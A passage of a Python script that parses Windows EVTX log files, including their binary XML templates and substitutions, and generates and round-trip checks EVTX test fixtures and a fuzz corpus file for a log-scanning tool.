
    def nodes(self):
        """Fragment headers, elements and template instances up to the EOF token."""
        out = []
        while True:
            t = self.byte()
            if t == 0x00:
                return out
            if t == 0x0F:
                if bytes(self.c[self.p:self.p + 3]) != b"\x01\x01\x00":
                    raise ReadError("bad fragment header at %d" % (self.p - 1))
                self.p += 3
            elif t in (0x01, 0x41):
                out.append(self.element(t, self.level))
            elif t == 0x0C:
                out.extend(self.instance())
            else:
                raise ReadError("token 0x%02x at the top of a fragment" % t)

    def nested(self, start, end, values=None, dep=False):
        if self.level > 16:
            raise ReadError("nesting too deep")
        r = TemplateXmlReader(self.c, start, end, values, dep, self.level + 1)
        nodes = r.nodes()
        if r.p != end:
            raise ReadError("nested fragment ends at %d, its size says %d" % (r.p, end))
        return nodes

    def instance(self):
        if self.byte() != 0x01:
            raise ReadError("template instance without its 01 byte")
        off = rd_u32(self.c, self.p + 4)  # after the u32 template id
        self.p += 8
        if off + 24 > len(self.c):
            raise ReadError("template definition offset %d outside the chunk" % off)
        size = rd_u32(self.c, off + 20)
        body = (off + 24, off + 24 + size)
        if off == self.p:  # defined inline here: skip it
            if body[1] > self.end:
                raise ReadError("template definition runs past its record")
            self.p = body[1]
        elif off > self.p:
            raise ReadError("template definition %d: forward reference from %d" % (off,
                                                                                  self.p))
        n = rd_u32(self.c, self.p)
        self.p += 4
        vals = []
        at = self.p + 4 * n
        for i in range(n):
            vsize = rd_u16(self.c, self.p + 4 * i)
            vals.append((at, vsize, self.c[self.p + 4 * i + 2]))
            at += vsize
        if at > self.end:
            raise ReadError("template values run past the fragment")
        self.p = at
        return self.nested(body[0], body[1], vals, dep=True)

    def subst(self, in_attr):
        """After 0x0d: the value as text, or (0x21) as a list of nodes."""
        idx = rd_u16(self.c, self.p)
        vtype = self.c[self.p + 2]
        self.p += 3
        if self.values is None:
            raise ReadError("substitution outside a template")
        if idx >= len(self.values):
            raise ReadError("substitution %d of %d values" % (idx, len(self.values)))
        off, size, have = self.values[idx]
        if have != vtype:
            raise ReadError("substitution %d: type 0x%02x, value 0x%02x"
                            % (idx, vtype, have))
        b = bytes(self.c[off:off + size])
        if vtype == 0x21:
            if in_attr:
                raise ReadError("binary XML value in an attribute")
            return self.nested(off, off + size)
        fixed = {0x04: 1, 0x06: 2, 0x08: 4, 0x0A: 8, 0x0F: 16, 0x11: 8, 0x15: 8}
        if vtype in fixed and size != fixed[vtype]:
            raise ReadError("value %d: type 0x%02x, size %d" % (idx, vtype, size))
        if vtype == 0x01:
            return b.decode("utf-16-le", "replace")
        if vtype in (0x04, 0x06, 0x08, 0x0A):
            return str(int.from_bytes(b, "little"))
        if vtype == 0x15:
            return "0x%x" % int.from_bytes(b, "little")
        if vtype == 0x0F:
            d1, d2, d3 = struct.unpack("<IHH", b[:8])
            return "{%08X-%04X-%04X-%s-%s}" % (d1, d2, d3, b[8:10].hex().upper(),
                                                b[10:16].hex().upper())
        if vtype == 0x11:
            secs, ticks = divmod(int.from_bytes(b, "little"), 10_000_000)
            return "%s.%07dZ" % (time.strftime("%Y-%m-%dT%H:%M:%S",
                                               time.gmtime(secs - 11644473600)), ticks)
        if vtype == 0x13:
            if size < 8 or size != 8 + 4 * b[1]:
                raise ReadError("value %d: SID of %d bytes" % (idx, size))
            subs = [str(int.from_bytes(b[8 + 4 * i:12 + 4 * i], "little"))
                    for i in range(b[1])]
            return "-".join(["S", str(b[0]), str(int.from_bytes(b[2:8], "big"))] + subs)
        raise ReadError("value %d: type 0x%02x not read here" % (idx, vtype))

    def element(self, tok, depth=0):
        if depth > 32:
            raise ReadError("nesting too deep")
        if self.dep:
            rd_u16(self.c, self.p)  # dependency id
            self.p += 2
        size = rd_u32(self.c, self.p)
        self.p += 4
        after_size = self.p
        name = self.name()
        attrs = []
        if tok & 0x40:
            alen = rd_u32(self.c, self.p)
            self.p += 4
            astart = self.p
            more = True
            while more:
                a = self.byte()
                if a not in (0x06, 0x46):
                    raise ReadError("attribute token 0x%02x" % a)
                more = a == 0x46
                an = self.name()
                t = self.byte()
                if t == 0x05:
                    attrs.append((an, self.value_text()))
                elif t == 0x0D:
                    attrs.append((an, self.subst(True)))
                else:
                    raise ReadError("attribute %s: value token 0x%02x" % (an, t))
            if self.p - astart != alen:
                raise ReadError("%s: attribute list size %d, real %d" % (name, alen,
                                                                         self.p - astart))
        close = self.byte()
        kids = None
        if close == 0x02:
            kids = []
            while True:
                t = self.byte()
                if t == 0x04:
                    break
                if t in (0x05, 0x45):
                    kids.append(self.value_text())
                elif t in (0x01, 0x41):
                    kids.append(self.element(t, depth + 1))
                elif t == 0x0D:
                    v = self.subst(False)
                    kids.extend(v if isinstance(v, list) else [v])
                elif t == 0x0C:
                    kids.extend(self.instance())
                else:
                    raise ReadError("token 0x%02x in %s" % (t, name))
        elif close != 0x03:
            raise ReadError("token 0x%02x after start of %s" % (close, name))
        if self.p - after_size != size:
            raise ReadError("%s: data size %d, real %d" % (name, size, self.p - after_size))
        return (name, attrs, kids)


def kids_named(node, name):
    return [k for k in (node[2] or []) if isinstance(k, tuple) and k[0] == name]


def text_of(node):
    return "".join(k for k in (node[2] or []) if isinstance(k, str))


def attr(node, name):
    for a, v in node[1]:
        if a == name:
            return v
    return None


def flatten(root):
    """-> dict with the System facts, data [(name, value)] and userdata."""
    if root[0] != "Event":
        raise ReadError("root is %s" % root[0])
    sysn = kids_named(root, "System")[0]

    def one(n):
        k = kids_named(sysn, n)
        return k[0] if k else None
    out = dict(provider=attr(one("Provider"), "Name"), event_id=int(text_of(one("EventID"))),
               level=int(text_of(one("Level"))),
               time=attr(one("TimeCreated"), "SystemTime"),
               record_id=int(text_of(one("EventRecordID"))),
               channel=text_of(one("Channel")), computer=text_of(one("Computer")))
    ed = kids_named(root, "EventData")
    out["data"] = [(attr(d, "Name"), text_of(d)) for d in kids_named(ed[0], "Data")] if ed else []
    ud = kids_named(root, "UserData")
    if ud:
        w = [k for k in ud[0][2] if isinstance(k, tuple)][0]
        out["userdata"] = (w[0], attr(w, "xmlns"), [(k[0], text_of(k)) for k in w[2]
                                                    if isinstance(k, tuple)])
    ri = kids_named(root, "RenderingInfo")
    if ri:
        out["message"] = text_of(kids_named(ri[0], "Message")[0])
    return out


def read_evtx(data, reader=XmlReader):
    """-> (records [(chunk, offset, rid, written FILETIME, flat dict)], problems [str]).
    reader: XmlReader (inline records only) or TemplateXmlReader."""
    recs, probs = [], []
    if data[0:8] != b"ElfFile\x00":
        return recs, ["file: bad magic"]
    if zlib.crc32(data[0:120]) != rd_u32(data, 124):
        probs.append("file: header CRC")
    if (rd_u32(data, 32), rd_u16(data, 38), rd_u16(data, 40)) != (128, 3, 4096):
        probs.append("file: header size / version / block size")
    nchunks = (len(data) - FILE_HEADER_BLOCK) // CHUNK_SIZE  # never trust the header count
    for ci in range(nchunks):
        c = data[FILE_HEADER_BLOCK + ci * CHUNK_SIZE:FILE_HEADER_BLOCK + (ci + 1) * CHUNK_SIZE]
        if not any(c):
            probs.append("chunk %d: empty" % ci)
            continue
        if c[0:8] != b"ElfChnk\x00":
            probs.append("chunk %d: bad magic" % ci)
            continue
        if zlib.crc32(c[0:120] + c[128:512]) != rd_u32(c, 124):
            probs.append("chunk %d: header CRC" % ci)
        free = min(rd_u32(c, 48), CHUNK_SIZE)
        if zlib.crc32(c[512:free]) != rd_u32(c, 52):
            probs.append("chunk %d: data CRC" % ci)
        off = CHUNK_HEADER
        first_id = last_id = None
        while off + 24 <= free:
            if c[off:off + 4] != b"\x2a\x2a\x00\x00":
                probs.append("chunk %d: no record signature at %d" % (ci, off))
                break
            size = rd_u32(c, off + 4)
            if size < 28 or off + size > free or rd_u32(c, off + size - 4) != size:
                probs.append("chunk %d: torn record" % ci)
                break
            rid = rd_u64(c, off + 8)
            try:
                flat = flatten(reader(c, off + 24, off + size - 4).fragment())
                if flat["record_id"] != rid:
                    raise ReadError("EventRecordID %d, header %d" % (flat["record_id"], rid))
                recs.append((ci, off, rid, rd_u64(c, off + 16), flat))
            except (ReadError, IndexError, ValueError) as e:
                probs.append("chunk %d: record %d: %s" % (ci, rid, e))
            first_id = rid if first_id is None else first_id
            last_id = rid
            off += size
        else:
            if off != free:
                probs.append("chunk %d: records end at %d, free space at %d" % (ci, off, free))
        if first_id is not None and (rd_u64(c, 24), rd_u64(c, 32)) != (first_id, last_id) \
                and not any(p.startswith("chunk %d: torn" % ci) for p in probs):
            probs.append("chunk %d: first/last record id in header" % ci)
    return recs, probs


def show(rec):
    ci, off, rid, _, f = rec
    data = f.get("data") or (f.get("userdata") or ("", "", []))[2]
    vals = ", ".join(("%s=%r" % (n, v)) if n else repr(v) for n, v in data)
    line = "  chunk %d @%-5d #%d EventID=%d Level=%d %s | %s | %s" % (
        ci, off, rid, f["event_id"], f["level"], f["time"], f["provider"], f["channel"])
    return line + "\n    [" + vals + "]"


def expect_flat(rid, ev):
    def norm(v):
        return "" if v is None or v is EMPTY_TEXT else v
    out = dict(provider=ev["provider"], event_id=ev["event_id"], level=ev["level"],
               time=ev["time"], record_id=rid, channel=ev["channel"], computer=ev["computer"])
    if ev.get("userdata"):
        out["data"] = []
        out["userdata"] = ev["userdata"]
    else:
        out["data"] = [(n, norm(v)) for n, v in ev["data"]]
    if ev.get("message"):
        out["message"] = ev["message"]
    return out


def render(spec):
    """spec -> (bytes, [(rid, ev)] readable, [expected problems])."""
    if isinstance(spec, tuple) and spec[0] == "raw":
        return spec[1], spec[2], spec[3]
    data, placed = evtx_bytes(spec)
    return data, placed, []


def check():
    bad = 0
    for case, files in case_files().items():
        for rel, spec in files.items():
            data, readable, want_probs = render(spec)
            path = E2E / case / "input" / rel
            disk = path.read_bytes() if path.exists() else b""
            print("%s: %s (%d bytes, %d chunk(s))" % (case, rel, len(disk),
                                                       max(0, (len(disk) - 4096) // 65536)))
            if disk != data:
                print("  FAIL: file on disk differs from the generator (rerun it)")
                bad += 1
                continue
            recs, probs = read_evtx(disk)
            for r in recs:
                print(show(r))
            for p in probs:
                print("  problem: " + p)
            got = [(r[2], r[4]) for r in recs]
            want = [(rid, expect_flat(rid, ev)) for rid, ev in readable]
            if got != want:
                bad += 1
                print("  FAIL: records differ from what was written")
                for g, w in zip(got, want):
                    if g != w:
                        print("    got  %r\n    want %r" % (g, w))
                        break
                if len(got) != len(want):
                    print("    %d records read, %d expected" % (len(got), len(want)))
            for (_, _, rid, written, flat), (_, ev) in zip(recs, readable):
                if written != filetime(ev["time"]):
                    bad += 1
                    print("  FAIL: record %d written time" % rid)
            if probs != want_probs:
                bad += 1
                print("  FAIL: problems %r, expected %r" % (probs, want_probs))
            if len(disk) > 266_240:
                bad += 1
                print("  FAIL: file too big")
    bad += check_plan_slot_reuse()
    print("check: %s" % ("all cases round-trip" if not bad else "%d failure(s)" % bad))
    return 1 if bad else 0


def check_plan_slot_reuse():
    """The fuzz corpus file: as the generator writes it, the layout the regression needs,
    and its three records read back (templates evaluated) as they were meant."""
    bad = 0
    data, placed, layout = plan_slot_reuse()
    path = FUZZ_EVTX / PLAN_SLOT_FILE
    disk = path.read_bytes() if path.exists() else b""
    print("fuzz corpus: %s (%d bytes)" % (path.relative_to(REPO), len(disk)))
    if disk != data:
        print("  FAIL: file on disk differs from the generator (rerun it)")
        return 1
    for name, off in layout.items():
        print("  %s at chunk offset %d, plan slot %d" % (name, off, plan_slot(off)))
    recs, probs = read_evtx(disk, TemplateXmlReader)
    for r in recs:
        print(show(r))
    for p in probs:
        print("  problem: " + p)
    got = [(r[2], r[4]) for r in recs]
    want = [(rid, expect_flat(rid, ev)) for rid, ev in placed]
    if got != want or probs:
        bad += 1
        print("  FAIL: records differ from what was written (%d read, %d written)"
              % (len(got), len(want)))
    # inside a record's binary XML the two definitions each come first: #1 defines the
    # outer template, #2 (in its 0x21 value) the 4624 EventData one
    recs_at = [r[1] for r in recs]
    d1, d2 = layout["D1 (System)"], layout["D2 (EventData 4624)"]
    if len(recs_at) != 3 or not (recs_at[0] < d1 < recs_at[1] < d2 < recs_at[2]):
        bad += 1
        print("  FAIL: D1 is not in record 1, or D2 not in record 2")
    if plan_slot(d1) != plan_slot(d2) or d1 == d2:
        bad += 1
        print("  FAIL: D1 and D2 do not share a plan slot")
    return bad


def dump(paths):
    for p in paths:
        recs, probs = read_evtx(Path(p).read_bytes(), TemplateXmlReader)
        print("%s: %d record(s)" % (p, len(recs)))
        for r in recs:
            print(show(r))
        for pr in probs:
            print("  problem: " + pr)
    return 0


def main(argv):
    if argv[1:2] == ["--check"]:
        return check()
    if argv[1:2] == ["--dump"]:
        return dump(argv[2:])
    if len(argv) > 1:
        print(__doc__)
        return 2
    cases = case_files()
    nfiles = nbytes = 0
    for case, files in cases.items():
        d = E2E / case
        shutil.rmtree(d / "input", ignore_errors=True)
        d.mkdir(parents=True, exist_ok=True)
        (d / "args").write_text("scan -f jsonl input\n")
        for rel, spec in files.items():
            data, _, _ = render(spec)
            path = d / "input" / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
            nfiles += 1
            nbytes += len(data)
    print("make_evtx: wrote %d .evtx files (%d bytes) in %d e2e cases" % (nfiles, nbytes,
                                                                         len(cases)))
    n = write_plan_slot_reuse()
    print("make_evtx: wrote %s (%d bytes)" % ((FUZZ_EVTX / PLAN_SLOT_FILE).relative_to(REPO),
                                               n))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
